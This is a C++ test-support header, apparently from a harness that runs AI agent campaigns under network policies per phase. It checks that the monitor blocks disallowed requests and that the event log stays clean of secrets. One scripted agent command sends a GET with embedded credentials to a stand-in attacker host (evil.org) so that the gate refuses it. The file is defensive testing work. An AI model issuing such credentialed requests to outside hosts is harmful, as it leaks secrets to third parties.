#pragma once
// A campaign whose phases may reach different places, on whatever runs it: set-up reaches one
// server of ours, the agent another, the checks none.
#include <csignal>

#include "tests/support/books.h"
#include "tests/support/local_server.h"
#include "tests/support/paths.h"

namespace proctor::testing {

class NetworkScene {
 public:
  // `environment`: lines for the contract's environment, each ended.
  explicit NetworkScene(const std::string& environment) : scene_(shape()) {
    fs::copy_file(build_dir() / "net_probe", scene_.temp() / "gate/net_probe");
    scene_.edit(scene_.contract(), "environment:\n", "environment:\n" + environment);
    scene_.edit(scene_.contract(), "checks:\n",
                "setup:\n  - command: /opt/gate/net_probe tunnel " + packages_.at() +
                    " | grep -q '200 there and back'\n    network: {allow: [\"" + packages_.at() +
                    "\"]}\nchecks:\n  - {id: alone, kind: unit, timeout: 120s, command: "
                    "\"/opt/gate/net_probe tunnel " +
                    packages_.at() + " | grep -q 'no proxy'\"}\n");
    scene_.edit(scene_.contract(), "policy:\n",
                "policy:\n  network: {agent: {allow: [\"" + model_.at() + "\"]}}\n");
    // Written down before it is known where the servers are.
    scene_.write(scene_.temp() / "gate/ask", "/opt/gate/net_probe tunnel " + model_.at() +
                                                 " get http://" + model_.at() + "/v1 tunnel " +
                                                 packages_.at() + " tunnel " + packages_.at() +
                                                 " get http://user:hunter2@evil.org/ > answers\n");
  }

  void run_and_check() {
    const CommandOutcome ran = scene_.run("run", {}, std::chrono::seconds(110));
    REQUIRE_MESSAGE(ran.exit_code == 0, ran.err << ran.out);
    check_books(scene_, {.runs = 1});
    CHECK(scene_.run("verify").exit_code == 0);
    fs::path run;
    for (const auto& e : fs::recursive_directory_iterator(scene_.folder() / "runs"))
      if (e.path().filename() == "report.json") run = e.path().parent_path();
    check_report(run);
    check_events(run);
    scene_.require_nothing_left();
  }

 private:
  static CampaignShape shape() {
    CampaignShape s;
    s.methods = {solving_method("asker", ". /opt/gate/ask; ")};
    s.replicates = 1;
    s.workers = 1;
    s.run = "2.00";
    return s;
  }

  void check_report(const fs::path& run) const {
    const Json report = must(parse_json(scene_.read(run / "report.json")));
    CHECK(report["outcome"] == "success");
    CHECK(report["replayable"] == false);
    CHECK(report["violations"] == Json::array({"network: " + packages_.at() + " (2 times)"}));
    const Json manifest = must(parse_json(scene_.read(run / "manifest.json")));
    CHECK(manifest["network"] == Json{{"setup", true},
                                      {"agent_and_acceptance", true},
                                      {"allowed",
                                       {{"setup", Json::array({packages_.at()})},
                                        {"agent", Json::array({model_.at()})},
                                        {"acceptance", Json::array()}}}});
  }

  void check_events(const fs::path& run) const {
    const std::string log = scene_.read(run / "events.jsonl");
    CHECK_FALSE(contains(log, "hunter2"));
    std::map<std::string, int> seen;  // by phase and what happened
    std::uint64_t alert = 0;
    for (std::size_t from = 0; from < log.size();) {
      const std::size_t end = log.find('\n', from);
      const Json event = must(parse_json(log.substr(from, end - from)));
      from = end + 1;
      const Json& p = event["payload"];
      const std::string type = event["type"].string();
      if (type == "network.request") {
        CHECK(p["verdict"] == "allowed");
        CHECK(0 < p["received"].get<int>());
        ++seen[p["phase"].get<std::string>() + " " + p["method"].get<std::string>()];
      } else if (type == "monitor.alert") {
        CHECK(event["actor"] == "monitor");
        alert = event["seq"].get<std::uint64_t>();
        ++seen[p["stage"].get<std::string>() + " " + p["code"].get<std::string>()];
      } else if (type == "monitor.intervention") {
        CHECK(p["alert"] == alert);
        CHECK(p["action"] == "request_refused");
        ++seen["interventions"];
      } else if (type == "network.closed") {
        ++seen["closed " + p["phase"].get<std::string>()];
      }
    }
    CHECK(seen == std::map<std::string, int>{{"setup-agent CONNECT", 1},
                                             {"setup-acceptance CONNECT", 1},
                                             {"agent CONNECT", 1},
                                             {"agent GET", 1},
                                             {"agent network_denied", 2},
                                             {"agent network_malformed", 1},
                                             {"interventions", 3},
                                             {"closed setup-agent", 1},
                                             {"closed setup-acceptance", 1},
                                             {"closed agent", 1}});
  }

  LocalServer packages_, model_;
  CampaignScene scene_;
};

// The worker is killed while its agent has a tunnel; the agent, or another after it, has one again
// behind the gate.
inline void run_killed(const std::string& environment) {
  const LocalServer before, after;
  CampaignShape shape;
  shape.methods = {solving_method("gated", ". /opt/gate/ask; ")};
  shape.replicates = 1;
  shape.workers = 1;
  const CampaignScene scene(shape);
  fs::copy_file(build_dir() / "net_probe", scene.temp() / "gate/net_probe");
  scene.write(scene.temp() / "gate/ask",
              "/opt/gate/net_probe tunnel " + before.at() +
                  " raw GET & until [ -s /opt/gate/open ]; do sleep 0.05; done; "
                  "until /opt/gate/net_probe tunnel " +
                  after.at() + " | grep -q '200 there and back'; do sleep 0.05; done\n");
  scene.edit(scene.contract(), "environment:\n", "environment:\n" + environment);
  scene.edit(scene.contract(), "policy:\n",
             "policy:\n  network: {allow: [\"" + before.at() + "\", \"" + after.at() + "\"]}\n");
  Child run = scene.start("run");
  REQUIRE_MESSAGE(eventually([&] { return before.heard().size() == 1; }), scene.said());
  const std::vector<pid_t> victims = scene.workers();
  REQUIRE(victims.size() == 1);
  REQUIRE(::kill(victims[0], SIGKILL) == 0);
  // Its next life has it, or another attempt.
  REQUIRE_MESSAGE(eventually([&] {
                    const std::vector<pid_t> alive = scene.workers();
                    return alive.size() == 1 && alive != victims &&
                           (before.heard().size() == 2 ||
                            contains(scene.worker_log("local-1"), "going on with it"));
                  }),
                  scene.said());
  scene.open_gate();
  CHECK_MESSAGE(run.wait(std::chrono::seconds(180)) == 0, scene.said());
  CHECK(after.heard().size() == 1);
  CHECK(scene.number("SELECT count(*) FROM runs WHERE outcome = 'success'") == 1);
  CHECK(scene.run("verify").exit_code == 0);
  scene.require_nothing_left();
}

}  // namespace proctor::testing
